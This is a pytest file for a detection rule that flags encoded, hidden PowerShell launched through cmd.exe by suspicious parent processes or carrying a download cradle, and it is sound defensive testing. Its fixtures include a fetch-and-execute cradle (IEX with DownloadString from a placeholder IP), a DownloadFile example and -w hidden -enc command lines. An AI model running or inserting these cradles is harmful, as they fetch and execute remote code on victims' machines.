"""The cmd_stager rule (analytics.stager_chains) on process creations of our own making: an encoded
PowerShell through cmd.exe fires when cmd's parent is a script host, Office, services.exe or WMI, or when
the decoded text is a download cradle; an installer's or a user's encoded configuration command does not."""

from __future__ import annotations

import base64

import pytest

from analytics.stager_chains import chain_hits, is_download_cradle

CMD = r"C:\Windows\System32\cmd.exe"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
CONFIG = "Set-ItemProperty -Path HKLM:\\Software\\Vendor -Name Ready -Value 1"


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def chain(starter: str, script: str, *, decoded: bool = True, cmd_guid: str = "g-cmd") -> list[tuple]:
    command = f"powershell -nop -w hidden -enc {encoded(script)}"
    cmd = ("e-cmd", "sysmon:process_create", 10.0,
           {"process.executable": CMD, "process.command_line": f"cmd.exe /c {command}", "process.guid": cmd_guid,
            "process.pid": 700, "process.parent.executable": starter})
    ps_fields = {"process.executable": PS, "process.command_line": command, "process.guid": "g-ps",
                 "process.parent.executable": CMD, "process.parent.guid": cmd_guid, "process.parent.pid": 700}
    if decoded:
        ps_fields["process.command_line_decoded"] = script
    return [cmd, ("e-ps", "sysmon:process_create", 11.0, ps_fields)]


@pytest.mark.parametrize("starter", [r"C:\Windows\System32\wscript.exe",
                                     r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                                     r"C:\Windows\System32\services.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe"])
def test_encoded_powershell_through_cmd_from_a_stager_parent_fires(starter: str):
    hits = chain_hits("ws-1", chain(starter, CONFIG))
    assert [(h.rule, h.event_id) for h in hits] == [("cmd_stager", "e-ps")]
    assert starter.rpartition("\\")[2].lower() in hits[0].detail


def test_a_download_cradle_through_cmd_fires_whoever_started_cmd():
    hits = chain_hits("ws-1", chain(r"C:\Program Files\Vendor\agent.exe", CRADLE))
    assert [h.rule for h in hits] == ["cmd_stager"] and "download cradle" in hits[0].detail


@pytest.mark.parametrize("starter", [r"C:\Windows\System32\msiexec.exe", r"C:\Program Files\Vendor\agent.exe"])
def test_an_installers_encoded_configuration_through_cmd_is_no_hit(starter: str):
    assert chain_hits("ws-1", chain(starter, CONFIG)) == []


@pytest.mark.parametrize("starter", [r"C:\Windows\System32\rundll32.exe", r"C:\Windows\SysWOW64\regsvr32.exe",
                                     r"C:\Windows\explorer.exe"])
def test_encoded_powershell_through_cmd_from_a_proxy_or_a_shortcut_fires_without_a_cradle(starter: str):
    """rundll32/regsvr32 running a DLL or scriptlet that starts a shell, an LNK whose target is
    ``cmd /c powershell -enc`` (HOSTF3 #5): no download cradle needed."""
    hits = chain_hits("ws-1", chain(starter, CONFIG))
    assert [(h.rule, h.event_id) for h in hits] == [("cmd_stager", "e-ps")]
    assert starter.rpartition("\\")[2].lower() in hits[0].detail


def test_encoded_configuration_typed_at_a_prompt_the_user_opened_is_no_hit():
    """Explorer started a bare ``cmd.exe`` (the Start menu's prompt) and the user ran PowerShell in it."""
    events = chain(r"C:\Windows\explorer.exe", CONFIG)
    events[0][3]["process.command_line"] = '"C:\\Windows\\system32\\cmd.exe" '
    assert chain_hits("ws-1", events) == []
    assert [h.rule for h in chain_hits("ws-1", chain(r"C:\Windows\explorer.exe", CRADLE))] == ["cmd_stager"]


def test_the_cmd_alone_is_a_hit_when_its_powershell_was_not_logged():
    cmd_only = chain(r"C:\Windows\System32\wscript.exe", CONFIG)[:1]
    assert [(h.rule, h.event_id) for h in chain_hits("ws-1", cmd_only)] == [("cmd_stager", "e-cmd")]


def test_the_cmd_is_found_by_pid_when_the_child_names_no_parent_guid():
    events = chain(r"C:\Windows\System32\services.exe", CONFIG)
    del events[1][3]["process.parent.guid"]
    assert [h.event_id for h in chain_hits("ws-1", events)] == ["e-ps"]


def test_unencoded_powershell_through_cmd_from_wscript_is_no_hit():
    events = [("e-cmd", "sysmon:process_create", 10.0,
               {"process.executable": CMD, "process.command_line": "cmd /c powershell -File C:\\it\\inventory.ps1",
                "process.guid": "g", "process.parent.executable": r"C:\Windows\System32\wscript.exe"}),
              ("e-ps", "sysmon:process_create", 11.0,
               {"process.executable": PS, "process.command_line": "powershell -File C:\\it\\inventory.ps1",
                "process.parent.executable": CMD, "process.parent.guid": "g"})]
    assert chain_hits("ws-1", events) == []


def test_download_cradle_words():
    assert is_download_cradle(CRADLE)
    assert is_download_cradle("$c = New-Object Net.WebClient; $c.DownloadFile('https://x.example/a.exe', $p)")
    assert not is_download_cradle(CONFIG)
    assert not is_download_cradle("Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe")


def test_a_cmd_joined_by_pid_is_the_one_holding_it_when_powershell_started():
    """Security 4688 has no GUIDs: the PowerShell's cmd.exe is found by pid, and Windows reuses pids.  A later
    cmd.exe given the same pid by a user's shell made the stager's starter explorer.exe (no hit); a later one
    started by Office made a user's encoded configuration a stager (red team T15 finding 3)."""
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"

    def cmd(event_id: str, ts: float, starter: str) -> tuple:
        return (event_id, "winsec:process_create", ts, {"process.executable": CMD, "process.command_line": "cmd.exe /c run.bat",
                                                         "process.pid": 700, "process.parent.executable": starter})

    ps = ("e-ps", "winsec:process_create", 11.0,
          {"process.executable": PS, "process.command_line": f"powershell -nop -enc {encoded(CONFIG)}",
           "process.parent.executable": CMD, "process.parent.pid": 700, "process.command_line_decoded": CONFIG})
    later = [cmd("e-cmd", 10.0, word), ps, cmd("e-later", 50.0, r"C:\Windows\explorer.exe")]
    assert [(h.rule, h.event_id) for h in chain_hits("ws-1", later)] == [("cmd_stager", "e-ps")]
    users = [cmd("e-cmd", 10.0, r"C:\Windows\explorer.exe"), ps, cmd("e-word", 50.0, word)]
    assert chain_hits("ws-1", users) == []
